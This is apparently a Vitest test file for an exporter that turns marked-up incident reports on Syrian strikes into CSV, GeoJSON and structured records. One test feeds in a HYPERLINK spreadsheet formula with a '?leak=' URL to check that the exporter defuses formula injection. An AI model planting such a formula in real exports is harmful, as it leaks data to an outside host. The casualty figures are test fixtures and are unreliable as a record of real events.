import { describe, expect, it } from 'vitest';
import { check } from '@placemarkio/check-geojson';
import { exportIncidents, incidentsToCsv } from '../../server/src/core/export/exportIncidents.js';
import { csvField, INCIDENT_COLUMNS, incidentColumns, incidentsToCsvRows, incidentsToGeoJson } from '../../server/src/core/export/incidentFormats.js';
import { exportReport } from '../../server/src/core/export/incidentRecords.js';
import { Gazetteer } from '../../server/src/core/gazetteer/gazetteer.js';
import { readGazetteerFile } from '../../server/src/core/gazetteer/readGazetteerFile.js';
import { parseReport } from '../../server/src/core/parse/parseReport.js';
import { runRules } from '../../server/src/core/runRules.js';
import { EXAMPLE_GAZETTEER } from '../../server/src/core/rules/rule.js';

const gazetteer = new Gazetteer([readGazetteerFile('/g.yaml', EXAMPLE_GAZETTEER)]);

const REPORT = `---
published: 2023-10-10
---
Intro by :actor[Russia]{role=source}.

:::incident{#idlib date=2023-10-04/2023-10-07 place=idlib-governorate}
At least :count[46]{#civ type=killed group=civilians}, including :count[nine]{type=killed group=women part-of=civ},
killed by :actor[the Assad regime]{role=perpetrator} in :place[Maarat al-Numan] and :place[Nowhere] on :date[4 October]{value=2023-10-04}.
:::
`;

describe('exportIncidents', () => {
  it('exports each incident with resolved names and count intervals, and the facts outside incidents', () => {
    expect(exportIncidents(parseReport(REPORT), gazetteer)).toEqual([
      {
        id: 'idlib',
        line: 6,
        date: { value: '2023-10-04/2023-10-07', start: '2023-10-04', end: '2023-10-07' },
        place: { label: 'idlib-governorate', id: 'idlib-governorate', name: 'Idlib Governorate', path: ['Syria'], role: null },
        counts: [
          { label: '46', type: 'killed', group: 'civilians', id: 'civ', partOf: null, min: 46, max: null, precision: 'at-least', source: null, sourceId: null, asOf: null, superseded: false, line: 7 },
          { label: 'nine', type: 'killed', group: 'women', id: null, partOf: 'civ', min: 9, max: 9, precision: 'exact', source: null, sourceId: null, asOf: null, superseded: false, line: 7 },
        ],
        figures: [{ type: 'killed', min: 46, max: null, sources: [{ source: null, sourceId: null, min: 46, max: null }] }],
        dates: [{ label: '4 October', value: '2023-10-04', line: 8 }],
        actors: [{ label: 'the Assad regime', id: 'syrian-government', name: 'Government of Syria', path: [], role: 'perpetrator' }],
        places: [
          { label: 'Maarat al-Numan', id: 'maarat-al-numan', name: 'Ma‘arrat an Nu‘mān', path: ['Idlib Governorate', 'Syria'], role: null },
          { label: 'Nowhere', id: null, name: null, path: [], role: null },
        ],
      },
      {
        id: null,
        line: 1,
        date: null,
        place: null,
        counts: [],
        figures: [],
        dates: [],
        actors: [{ label: 'Russia', id: 'russia', name: 'Russian Armed Forces', path: [], role: 'source' }],
        places: [],
      },
    ]);
  });

  it('writes one CSV row per count, quoting where needed', () => {
    const csv = incidentsToCsv([{ file: 'a, b.md', incidents: exportIncidents(parseReport(REPORT), gazetteer) }]);
    expect(csv).toBe(
      [
        'file,incident,incident_line,date_start,date_end,place_id,place,type,group,min,max,precision,label,count_id,part_of,count_line,actors,source,source_id,as_of,superseded,incident_min,incident_max',
        '"a, b.md",idlib,6,2023-10-04,2023-10-07,idlib-governorate,Idlib Governorate,killed,civilians,46,,at-least,46,civ,,7,Government of Syria,,,,false,46,',
        '"a, b.md",idlib,6,2023-10-04,2023-10-07,idlib-governorate,Idlib Governorate,killed,women,9,9,exact,nine,,civ,7,Government of Syria,,,,false,46,',
        '',
      ].join('\n'),
    );
  });

  // Figures of two sources and a revision: each count keeps who gave it and when, and the incident's
  // figure is the interval "Which figure counts" in docs/markup.md describes, so that a spreadsheet
  // summing incident figures counts no one twice (61 and 46, not 52 + 61 + 46).
  const SOURCED = `---
published: 2023-10-10
---
:::incident{#market date=2023-10-05}
:actor[SOHR]{role=source} said :count[52]{type=killed group=civilians source=sohr} civilians were killed, :count[61]{type=killed group=civilians source=sohr as-of=2023-10-10} by Tuesday; :actor[the White Helmets]{role=source} counted :count[46]{type=killed group=civilians source="White Helmets"}.
:::
`;

  it('exports each figure with its source and date, and the incident figure per type as an interval across sources', () => {
    const count = (label: string, min: number, rest: { source: string; sourceId: string; asOf: string | null; superseded: boolean }) => ({
      label, type: 'killed', group: 'civilians', id: null, partOf: null, min, max: min, precision: 'exact', ...rest, line: 5,
    });
    expect(exportIncidents(parseReport(SOURCED), gazetteer)).toEqual([
      {
        id: 'market',
        line: 4,
        date: { value: '2023-10-05', start: '2023-10-05', end: '2023-10-05' },
        place: null,
        counts: [
          count('52', 52, { source: 'Syrian Observatory for Human Rights', sourceId: 'sohr', asOf: null, superseded: true }),
          count('61', 61, { source: 'Syrian Observatory for Human Rights', sourceId: 'sohr', asOf: '2023-10-10', superseded: false }),
          count('46', 46, { source: 'Syria Civil Defence', sourceId: 'syria-civil-defence', asOf: null, superseded: false }),
        ],
        figures: [
          {
            type: 'killed',
            min: 46,
            max: 61,
            sources: [
              { source: 'Syrian Observatory for Human Rights', sourceId: 'sohr', min: 61, max: 61 },
              { source: 'Syria Civil Defence', sourceId: 'syria-civil-defence', min: 46, max: 46 },
            ],
          },
        ],
        dates: [],
        actors: [
          { label: 'SOHR', id: 'sohr', name: 'Syrian Observatory for Human Rights', path: [], role: 'source' },
          { label: 'the White Helmets', id: 'syria-civil-defence', name: 'Syria Civil Defence', path: [], role: 'source' },
        ],
        places: [],
      },
    ]);
    const csv = incidentsToCsv([{ file: 'r.md', incidents: exportIncidents(parseReport(SOURCED), gazetteer) }]).split('\n');
    expect(csv.slice(1)).toEqual([
      'r.md,market,4,2023-10-05,2023-10-05,,,killed,civilians,52,52,exact,52,,,5,Syrian Observatory for Human Rights; Syria Civil Defence,Syrian Observatory for Human Rights,sohr,,true,46,61',
      'r.md,market,4,2023-10-05,2023-10-05,,,killed,civilians,61,61,exact,61,,,5,Syrian Observatory for Human Rights; Syria Civil Defence,Syrian Observatory for Human Rights,sohr,2023-10-10,false,46,61',
      'r.md,market,4,2023-10-05,2023-10-05,,,killed,civilians,46,46,exact,46,,,5,Syrian Observatory for Human Rights; Syria Civil Defence,Syria Civil Defence,syria-civil-defence,,false,46,61',
      '',
    ]);
  });
});

// The incident level (docs/export.md): one record per incident, with the place's country, areas and
// coordinates from the gazetteer, actors by role and each type's figure counted once.
const PLACES = readGazetteerFile('/team/gazetteer.yaml', `actors:
  - id: gov
    name: Government of Syria
    aliases: [Assad regime]
  - id: sohr
    name: Syrian Observatory for Human Rights
    aliases: [SOHR]
  - id: scd
    name: Syria Civil Defence
    aliases: [White Helmets]
places:
  - id: syria
    name: Syria
    kind: country
    geonames: 163843
    coordinates: [35, 38]
  - id: idlib-governorate
    name: Idlib Governorate
    kind: governorate
    in: syria
  - id: maarat-district
    name: Maarat al-Numan District
    kind: district
    in: idlib-governorate
  - id: maarat
    name: Maarat al-Numan
    kind: town
    geonames: 169389
    coordinates: [35.64, 36.67]
    in: maarat-district
  - id: camp-site
    name: Wadi camp
    kind: camp
    in: maarat
`);
const placesGazetteer = new Gazetteer([PLACES]);

const INCIDENTS = `---
title: Strikes on Maarat al-Numan
published: 2023-10-10
totals: {killed: 49, injured: 20}
---
# Strikes, October 2023

Before the strikes :actor[SOHR]{role=source} counted :count[5]{type=killed} dead in other towns.

:::incident{#market date=2023-10 place=maarat}
:actor[SOHR]{role=source} said :count[52]{type=killed group=civilians source=sohr} civilians were killed, :count[61]{type=killed group=civilians source=sohr as-of=2023-10-10} by Tuesday;
:actor[the White Helmets]{role=source} counted :count[46]{type=killed group=civilians source="White Helmets"}, and :count[at least 20]{type=injured} were injured by :actor[the Assad regime]{role=perpetrator}.

> Among the dead were :actor[market traders]{role=victim}.
:::

:::incident{#camp date=2023-10-06/2023-10-07 place=camp-site killed=3}
- Three people were killed in the :place[camp].
:::
`;

describe('exportReport (incident level)', () => {
  const exported = exportReport(parseReport(INCIDENTS), placesGazetteer);

  it('makes one record per incident, and none of the text outside incidents', () => {
    expect(exported.incidents.map((incident) => incident.id)).toEqual(['market', 'camp']);
    expect(exported).toMatchObject({
      title: 'Strikes on Maarat al-Numan',
      published: '2023-10-10',
      frontMatter: { title: 'Strikes on Maarat al-Numan', published: '2023-10-10', totals: { killed: 49, injured: 20 } },
      errors: [],
    });
  });

  it('gives the place its country, areas and coordinates, actors by role, and each figure once', () => {
    expect(exported.incidents[0]).toEqual({
      id: 'market',
      line: 10,
      date: { value: '2023-10', start: '2023-10', end: '2023-10', precision: 'month' },
      place: {
        label: 'maarat', id: 'maarat', name: 'Maarat al-Numan', kind: 'town', geonamesId: 169389,
        country: 'Syria', countryCode: null, admin1: 'Idlib Governorate', admin2: 'Maarat al-Numan District',
        latitude: 35.64, longitude: 36.67, coordinatesFrom: 'maarat', geoPrecision: 'place',
      },
      actors: {
        perpetrators: [{ name: 'Government of Syria', id: 'gov', label: 'the Assad regime' }],
        victims: [{ name: 'market traders', id: null, label: 'market traders' }],
        sources: [
          { name: 'Syrian Observatory for Human Rights', id: 'sohr', label: 'SOHR' },
          { name: 'Syria Civil Defence', id: 'scd', label: 'the White Helmets' },
        ],
        claimants: [],
        others: [],
      },
      places: [],
      figures: {
        killed: {
          low: 46,
          high: 61,
          sources: [
            { source: 'Syrian Observatory for Human Rights', sourceId: 'sohr', asWritten: '61', low: 61, high: 61 },
            { source: 'Syria Civil Defence', sourceId: 'scd', asWritten: '46', low: 46, high: 46 },
          ],
        },
        injured: { low: 20, high: null, sources: [{ source: null, sourceId: null, asWritten: 'at least 20', low: 20, high: null }] },
      },
      notes:
        'SOHR said 52 civilians were killed, 61 by Tuesday; the White Helmets counted 46, and at least 20 were injured by the Assad regime. Among the dead were market traders.',
    });
  });

  it('writes a CSV row with every column, and the coordinates of the containing town for a camp that has none', () => {
    const csv = incidentsToCsvRows([{ file: 'reports/maarat.md', ...exported }]);
    const [header, market, camp, end] = csv.split('\n');
    expect(header).toBe(INCIDENT_COLUMNS.join(','));
    expect(end).toBe('');
    expect(market).toBe(
      'reports/maarat.md,10,Strikes on Maarat al-Numan,2023-10-10,market,2023-10,2023-10,2023-10,month,Maarat al-Numan,maarat,town,169389,Syria,,Idlib Governorate,Maarat al-Numan District,35.64,36.67,maarat,place,' +
        'Government of Syria,gov,market traders,,Syrian Observatory for Human Rights; Syria Civil Defence,sohr; scd,,,,,,,' +
        '46,46,61,61; 46,Syrian Observatory for Human Rights; Syria Civil Defence,20,,at least 20,,,,,,,,,,,,,,,,,,' +
        '"SOHR said 52 civilians were killed, 61 by Tuesday; the White Helmets counted 46, and at least 20 were injured by the Assad regime. Among the dead were market traders."',
    );
    expect(Object.fromEntries(INCIDENT_COLUMNS.map((column, index) => [column, camp!.split(',')[index]]))).toEqual({
      ...Object.fromEntries(INCIDENT_COLUMNS.map((column) => [column, ''])),
      file: 'reports/maarat.md', line: '17', title: 'Strikes on Maarat al-Numan', published: '2023-10-10', incident: 'camp',
      event_date: '2023-10-06', date_start: '2023-10-06', date_end: '2023-10-07', date_precision: 'day',
      location: 'Wadi camp', place_id: 'camp-site', place_kind: 'camp', country: 'Syria', admin1: 'Idlib Governorate', admin2: 'Maarat al-Numan District',
      latitude: '35.64', longitude: '36.67', coordinates_from: 'maarat', geo_precision: 'area',
      // A name that did not resolve: its label, and an empty id slot.
      places: 'camp',
      fatalities: '3', killed_low: '3', killed_high: '3', killed_as_written: 'killed=3',
      notes: 'Three people were killed in the camp.',
    });
  });

  it('writes text that a spreadsheet would run as a formula with a leading quote, and negative numbers as numbers', () => {
    const text = `---\ntitle: '=HYPERLINK("https://example.org/?leak="&A1, "open")'\npublished: 2023-10-10\n---\n\n:::incident{#a date=2023-10-04}\n-1 day: :count[3]{type=killed} killed by :actor[@someone]{role=perpetrator}.\n:::\n`;
    const csv = incidentsToCsvRows([{ file: 'r.md', ...exportReport(parseReport(text), gazetteer) }]);
    expect(csv.split('\n')[1]).toBe(
      `r.md,6,"'=HYPERLINK(""https://example.org/?leak=""&A1, ""open"")",2023-10-10,a,2023-10-04,2023-10-04,2023-10-04,day,,,,,,,,,,,,,'@someone,,,,,,,,,,,,3,3,3,3,,,,,,,,,,,,,,,,,,,,,,'-1 day: 3 killed by @someone.`,
    );
    expect(['+1', '\tx', '\rx', '-', 'a=b', -36.5, 0, null].map(csvField)).toEqual(["'+1", "'\tx", `"'\rx"`, "'-", 'a=b', '-36.5', '0', '']);
  });

  it('sums to the stated totals: each incident once, whatever the number of sources', () => {
    const rows = exported.incidents.map((incident) => incidentColumns({ file: 'r.md', ...exported }, incident));
    const sum = (column: string) => rows.reduce((total, row) => total + Number(row[column] ?? 0), 0);
    expect({ killed: sum('fatalities'), injured: sum('injured_low') }).toEqual(exported.frontMatter!.totals);
  });

  it('writes GeoJSON points as [longitude, latitude], valid by RFC 7946, with the unlocated incidents beside them', () => {
    const unlocated = exportReport(parseReport('---\npublished: 2023-10-10\n---\n:::incident{#nowhere date=2023-10-05 place="Atlantis"}\n:count[2]{type=killed} killed.\n:::\n'), placesGazetteer);
    const text = incidentsToGeoJson([{ file: 'a.md', ...exported }, { file: 'b.md', ...unlocated }]);
    const collection = check(text) as unknown as { features: { geometry: { coordinates: number[] }; properties: Record<string, unknown> }[] };
    expect(collection.features.map((feature) => [feature.properties.incident, feature.geometry.coordinates])).toEqual([
      ['market', [36.67, 35.64]],
      ['camp', [36.67, 35.64]],
    ]);
    expect(collection.features[0]!.properties).toEqual(incidentColumns({ file: 'a.md', ...exported }, exported.incidents[0]!));
    const { unlocated: listed } = JSON.parse(text) as { unlocated: Record<string, unknown>[] };
    expect(listed.map((row) => [row.file, row.incident, row.location, row.latitude, row.fatalities])).toEqual([['b.md', 'nowhere', 'Atlantis', null, 2]]);
  });

  it('carries the report\'s errors, and leaves out the fields they touch', () => {
    const text = '---\npublished: 2023-10-10\n---\n:::incident{#x date=2023-09-31}\n:count[4]{type=killed} killed.\n:::\n';
    const report = parseReport(text);
    const errors = runRules(report, placesGazetteer).filter((diagnostic) => diagnostic.severity === 'error');
    const result = exportReport(report, placesGazetteer, errors);
    expect(result.errors).toEqual([{ line: 4, column: 21, code: 'date-invalid', message: '"2023-09-31" is not a calendar date: September 2023 has 30 days.' }]);
    expect(result.incidents[0]!.date).toBeNull();
    expect(result.incidents[0]!.figures).toEqual({ killed: { low: 4, high: 4, sources: [{ source: null, sourceId: null, asWritten: '4', low: 4, high: 4 }] } });
  });
});
